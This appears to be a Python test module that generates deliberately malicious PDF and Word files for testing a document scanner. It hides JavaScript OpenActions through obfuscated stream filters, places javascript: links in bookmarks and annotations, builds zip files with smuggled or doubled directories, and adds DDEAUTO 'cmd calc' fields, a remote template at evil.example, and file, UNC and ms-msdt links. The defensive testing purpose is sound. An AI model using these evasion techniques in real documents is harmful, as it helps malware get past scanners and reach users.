"""Files that one reader takes for harmless, and another one for what they are: nobody agrees where things end."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from itertools import pairwise

from tests.documents.hostile.building import (
    Case,
    case,
    docx,
    honest_parts,
    obj,
    pdf,
    relation,
    stream,
    written,
)
from tests.documents.hostile.documents import field

NAME = "resume.docx"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
OBJECTS = b"10 0 " + SCRIPT
PACKED = zlib.compress(OBJECTS)
ABOUT = b"/Type/ObjStm/N 1/First 5"


def with_objects(body: bytes, about: bytes, kind: bytes = ABOUT) -> bytes:
    """A script in a stream of objects, packed in a way that we might not see through."""
    return pdf(stream(9, body, kind + about), catalog=b"/OpenAction 10 0 R")


def in_rows(data: bytes, width: int = 8) -> bytes:
    """Each row as its difference to the row above (PNG's second filter)."""
    rows = [bytes(width)] + [data[at : at + width].ljust(width) for at in range(0, len(data), width)]
    pairs = pairwise(rows)
    return b"".join(
        b"\2" + bytes((now - then) & 255 for then, now in zip(above, row, strict=True))
        for above, row in pairs
    )


def list_packings() -> Iterator[Case]:
    letters = PACKED.hex().encode() + b">"
    ways = {
        "wrong-sum": (PACKED[:-1] + bytes([PACKED[-1] ^ 1]), b"/Filter/FlateDecode"),
        "letters-twice": (
            letters.hex().encode() + b">",
            b"/Filter[/ASCIIHexDecode/ASCIIHexDecode/FlateDecode]",
        ),
        "letters-inside": (
            zlib.compress(OBJECTS.hex().encode() + b">"),
            b"/Filter[/FlateDecode/ASCIIHexDecode]",
        ),
        "false-filter": (PACKED, b"/A<</Filter/DCTDecode>>/Filter/FlateDecode"),
        "two-filters": (PACKED, b"/Filter/DCTDecode/Filter/FlateDecode"),
        "filter-elsewhere": (letters, b"/Filter 8 0 R"),
        "remark": (letters, b"/Filter%x\n[/ASCIIHexDecode/FlateDecode]"),
        "rows": (
            zlib.compress(in_rows(OBJECTS)),
            b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>",
        ),
        "half-a-string": (PACKED, b"/X(5 0 obj)/Filter/FlateDecode"),
    }
    for name, (body, about) in ways.items():
        yield case(f"pdf-packed-{name}", with_objects(body, about), "active_content", "damaged")
    untyped = with_objects(letters, b"/Filter[/ASCIIHexDecode/FlateDecode]", b"/N 1/First 5")
    yield case("pdf-packed-without-type", untyped, "active_content")


def list_places() -> Iterator[Case]:
    places = {
        "string": b"/X(stream\n)/OpenAction%s/Y(endstream)",
        "whole-string": b"/X(<<>>stream\n%%)/OpenAction%s/Y(endstream endobj)",
        "remark": b"%%stream\n/OpenAction%s%%endstream\n",
        "border": b"/X( obj %%)/OpenAction%s\n",
        "far-apart": b"/X( obj %%)/OpenAction<</S%%\r /J#61vaScript/JS(x)>>%.0s\n",
        "kind-elsewhere": b"/OpenAction<</S 8 0 R/JS(x)>>%.0s",
    }
    for name, catalog in places.items():
        yield case(f"pdf-hidden-in-{name}", pdf(catalog=catalog % SCRIPT), "active_content")
    mark = obj(8, b"<</Title(a)/Parent 7 0 R/A<</S/URI/URI<%s>>>>>" % b"javascript:x".hex().encode())
    marks = pdf(mark, obj(7, b"<</First 8 0 R/Last 8 0 R>>"), catalog=b"/Outlines 7 0 R")
    yield case("pdf-hidden-in-bookmark", marks, "active_content")
    split = obj(8, b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(java\\tscript:x)>>>>")
    yield case("pdf-address-split", pdf(split, page=b"/Annots[8 0 R]"), "active_content")
    about = b"<<%s/X(stream\n)/Filter/FlateDecode>>stream\n%s\nendstream"
    inside = pdf(obj(9, about % (ABOUT, PACKED)), catalog=b"/OpenAction 10 0 R")
    yield case("pdf-hidden-in-dictionary", inside, "active_content")
    behind = pdf(
        obj(9, b"<</X(stream\n)%s/Filter/FlateDecode>>stream\n%s\nendstream" % (ABOUT, PACKED)),
        catalog=b"/OpenAction 10 0 R",
    )
    yield case("pdf-hidden-behind-string", behind, "active_content")


def with_gap(extra: bytes) -> bytes:
    """Bytes before the table of contents that no line of it names."""
    data = docx()
    at = data.rfind(b"PK\5\6")
    (table,) = struct.unpack_from("<L", data, at + 16)
    end = bytearray(data[at:])
    struct.pack_into("<L", end, 16, table + len(extra))
    return data[:table] + extra + data[table:at] + bytes(end)


def two_tables() -> bytes:
    """Two documents in one archive: one in the old table of contents, one in that of zip64."""
    evil, good = docx(relation("attachedTemplate", "http://evil.example/t.dotm")), docx()
    first, second = (data.rfind(b"PK\5\6") for data in (evil, good))
    count, size, table = struct.unpack_from("<HLL", good, second + 10)
    moved, written_ = io.BytesIO(), bytearray(good[table:second])
    at = 0
    while at < len(written_):
        name, extra, remark = struct.unpack_from("<3H", written_, at + 28)
        (offset,) = struct.unpack_from("<L", written_, at + 42)
        struct.pack_into("<L", written_, at + 42, offset + struct.unpack_from("<L", evil, first + 16)[0])
        at += 46 + name + extra + remark
    evil_count, evil_size, evil_table = struct.unpack_from("<HLL", evil, first + 10)
    moved.write(evil[:evil_table] + good[:table])
    begin = moved.tell()
    moved.write(evil[evil_table:first] + written_)
    large = moved.tell()
    moved.write(struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, begin + evil_size))
    moved.write(struct.pack("<4sLQL", b"PK\6\7", 0, large, 1))
    whole = moved.tell() - begin
    moved.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, evil_count, evil_count, whole, begin, 0))
    return moved.getvalue()


def list_archives() -> Iterator[Case]:
    two = ("disguised", "type_not_accepted")
    yield case(
        "docx-with-rar-in-a-gap",
        lambda: with_gap(b"Rar!\x1a\x07\x01\0" + bytes(99)),
        "disguised",
        filename=NAME,
    )
    yield case("docx-with-two-tables", two_tables, *two, filename=NAME)


def long_table() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in honest_parts().items():
            archive.writestr(name, data)
        for at in range(25_000):
            archive.writestr(str(at), b"")
    return made.getvalue()


def list_parts() -> Iterator[Case]:
    runs = "active_content"
    rels = "word/_rels/document.xml.rels"
    out = relation("attachedTemplate", "http://evil.example/t.dotm")[rels]
    yield case(
        "docx-relations-in-capitals",
        lambda: docx({rels.replace(".rels", ".RELS"): out}, without=rels),
        runs,
        filename=NAME,
    )
    space = (
        honest_parts()["word/document.xml"].decode().partition("<w:body>")[0].replace("w:document", "w:hdr")
    )
    head = f"{space}{field('DDEAUTO cmd calc')}</w:hdr>"
    for name, data in {
        "plain": head.encode(),
        "wide": head.replace("UTF-8", "UTF-16").encode("utf-16"),
    }.items():
        yield case(
            f"docx-header-by-another-name-{name}",
            lambda data=data: docx({"word/header1.dat": data}),
            runs,
            filename=NAME,
        )
    yield case("docx-long-table", long_table, "type_not_accepted", filename=NAME)
    orders = {
        "file": 'HYPERLINK "file://evil/share"',
        "program": 'HYPERLINK "ms-msdt:/id x" \\t "_blank"',
        "share": r"HYPERLINK \\\\evil\\share",
        "behind-a-switch": r'HYPERLINK \t "_blank" "file://evil/share"',
        "picture": r'INCLUDEPICTURE "\\evil\share\a.png"',
    }
    for name, order in orders.items():
        yield case(
            f"docx-field-link-{name}", lambda order=order: docx(written(field(order))), runs, filename=NAME
        )
    taken_out = field("DDEAUTO cmd calc").replace("instrText", "delInstrText")
    yield case("docx-field-taken-out", lambda: docx(written(taken_out)), runs, filename=NAME)
